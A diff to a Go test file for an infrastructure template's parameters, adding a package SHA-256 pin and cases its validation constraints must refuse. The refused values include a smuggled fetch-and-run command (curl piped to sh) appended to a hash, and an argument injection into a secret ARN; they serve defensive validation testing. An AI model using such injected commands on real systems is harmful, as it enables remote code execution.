@@ -29,10 +29,12 @@ var scenarios = []struct {
 	overrides map[string]string
 }{
 	{"defaults", map[string]string{
-		"PackageUrl": "https://packages.example.com/gwlbproxy-1.0.0-1.x86_64.rpm",
+		"PackageUrl":    "https://packages.example.com/gwlbproxy-1.0.0-1.x86_64.rpm",
+		"PackageSha256": "0f4e0d7b8f5a1c2e3d4b5a69788796a5b4c3d2e1f00112233445566778899aab",
 	}},
 	{"overrides", map[string]string{
 		"PackageUrl":           "s3://example-artifacts/gwlbproxy/gwlbproxy-1.0.0-1.aarch64.rpm",
+		"PackageSha256":        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
 		"Architecture":         "arm64",
 		"InstanceType":         "c7g.large",
 		"MinSize":              "3",
@@ -102,14 +104,19 @@ func TestTemplateParameters(t *testing.T) {
 		}
 	}
 	// Values each constraint must refuse.
+	hex64 := strings.Repeat("a", 64)
 	for param, bad := range map[string]string{
-		"PackageUrl":     "http://insecure.example.com/gwlbproxy.rpm",
-		"CaSecretArn":    `arn:aws:secretsmanager:us-east-1:123456789012:secret:ca" --admin-addr :81`,
-		"TcpIdleTimeout": "59",
-		"DrainTimeout":   "3601",
-		"LogGroupName":   "group with spaces",
+		"PackageUrl":      "http://insecure.example.com/gwlbproxy.rpm",
+		"PackageSha256":   hex64 + "' ; curl -s https://x.example/p | sh #",
+		"PackageSha256 ":  strings.ToUpper(hex64),
+		"PackageSha256  ": hex64[1:],
+		"CaSecretArn":     `arn:aws:secretsmanager:us-east-1:123456789012:secret:ca" --admin-addr :81`,
+		"TcpIdleTimeout":  "59",
+		"DrainTimeout":    "3601",
+		"LogGroupName":    "group with spaces",
 	} {
-		vals, err := rt.paramValues(map[string]string{"PackageUrl": "https://x.example/p.rpm", param: bad})
+		param = strings.TrimSpace(param) // spaces: several bad values of one parameter
+		vals, err := rt.paramValues(map[string]string{"PackageUrl": "https://x.example/p.rpm", "PackageSha256": hex64, param: bad})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -502,6 +509,7 @@ func (c *templateCheck) userData(t *testing.T) {
 	}
 
 	c.startGate(t, script)
+	c.packagePin(t, script)
 
 	u := parseUnit(t, "systemd/gwlbproxy.service")
 	envFile := strings.TrimPrefix(u.one(t, "Service", "EnvironmentFile"), "-")
